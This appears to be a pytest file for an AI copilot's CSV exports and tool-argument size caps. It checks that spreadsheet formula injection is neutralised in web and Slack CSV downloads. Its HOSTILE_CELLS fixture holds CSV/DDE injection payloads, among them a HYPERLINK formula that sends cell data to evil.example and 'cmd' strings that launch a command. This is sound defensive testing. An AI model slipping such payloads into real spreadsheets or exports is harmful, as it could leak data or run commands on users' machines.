"""CSV formula neutralisation in every front end's CSV, and input-size caps on tool arguments."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pandas as pd
import pytest

from copilot.answer import Answer
from copilot.frontends.slack.render import answer_files
from copilot.frontends.web.chat import CsvFiles
from copilot.tool_adapter import MAX_ARGUMENT_CHARS, to_langchain_tool
from tools.base import TableArtifact, ToolContext, ToolOutput
from tools.csv_safety import safe_csv_frame, safe_csv_value
from tools.knowledge_search import MAX_QUERY_CHARS, search_knowledge

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": HOSTILE_CELLS,
            "amount": [-12.5, 3, 0, -1, 7, 8],
            "sku": ["A-1", "-5", "B", "=C", "plain", "中文"],
        }
    )


def assert_neutralised(csv_text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))
    for cell in [c for row in rows for c in row]:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only numbers may start with a minus sign
    assert "-12.5" in csv_text and "'=HYPERLINK" in csv_text and "'-2+3+cmd" in csv_text
    # Text that is a plain number ("-5", a phone "+86...") runs nothing and stays as it is.
    assert ",-5\n" in csv_text.replace("\r\n", "\n")


def test_safe_csv_value_follows_owasp() -> None:
    assert [safe_csv_value(c) for c in HOSTILE_CELLS] == [
        "'" + c.replace("\r", "\n") for c in HOSTILE_CELLS
    ]
    for plain in ("Shanghai", "A=B", "", "中文", "a@b.com"):
        assert safe_csv_value(plain) == plain
    for number in (-3, -2.5, Decimal("-1.20"), 0, None):
        assert safe_csv_value(number) == number
    safe = safe_csv_frame(hostile_frame())
    assert safe["amount"].tolist() == [-12.5, 3, 0, -1, 7, 8]  # numbers stay numbers
    assert safe["amount"].dtype == float


def test_web_download_csv_is_neutralised() -> None:
    path = CsvFiles().write("SQL result", hostile_frame())
    with open(path, encoding="utf-8-sig") as handle:
        assert_neutralised(handle.read())


def test_slack_csv_upload_is_neutralised() -> None:
    answer = Answer(
        text="t",
        mode="m",
        conversation_id="c",
        artifacts=[TableArtifact(title="x", frame=hostile_frame())],
    )
    files = answer_files(answer)
    assert_neutralised(files[0]["content"].decode("utf-8-sig"))


class _KnowledgeBase:
    def __init__(self) -> None:
        self.queries: list[str] = []

    def search(self, query: str, k: int, language: Any = None) -> list:
        self.queries.append(query)
        return []


def test_search_knowledge_caps_the_query() -> None:
    kb = _KnowledgeBase()
    ctx: Any = ToolContext(engine=None, semantic_model=None, knowledge=kb)  # type: ignore[arg-type]
    with pytest.raises(Exception, match=f"limit {MAX_QUERY_CHARS}"):
        search_knowledge(ctx, "a " * MAX_QUERY_CHARS)
    assert kb.queries == []  # refused before any search
    search_knowledge(ctx, "SMS length limit")
    assert kb.queries == ["SMS length limit"]


def _echo(ctx: ToolContext, text: str) -> ToolOutput:
    """Echo."""
    return ToolOutput(for_model=text[:10])


def test_oversized_tool_arguments_are_refused() -> None:
    tool = to_langchain_tool(_echo, ToolContext(engine=None, semantic_model=None))  # type: ignore[arg-type]
    content, output = tool.func(text="x" * (MAX_ARGUMENT_CHARS + 1))
    assert content.startswith("Error: Refused") and "limit" in content
    content, _ = tool.func(text="hello")
    assert content == "hello"


def test_every_tool_refuses_oversized_text_arguments_before_running() -> None:
    """Each registered tool's text parameters go through the one argument cap."""
    from typing import get_args

    from copilot.tool_adapter import args_schema
    from tools import TOOLS

    checked = []
    for func in TOOLS:
        tool = to_langchain_tool(func, ToolContext(engine=None, semantic_model=None))  # type: ignore[arg-type]
        fields = args_schema(func).model_fields
        texts = [
            n for n, f in fields.items() if f.annotation is str or str in get_args(f.annotation)
        ]
        if not texts:
            continue
        content, output = tool.func(**{texts[0]: "x" * (MAX_ARGUMENT_CHARS + 1)})
        assert content.startswith("Error: Refused"), (func.__name__, content[:80])
        checked.append(func.__name__)
    assert {"run_sql", "search_knowledge", "define_segment", "export_audience"} <= set(checked)
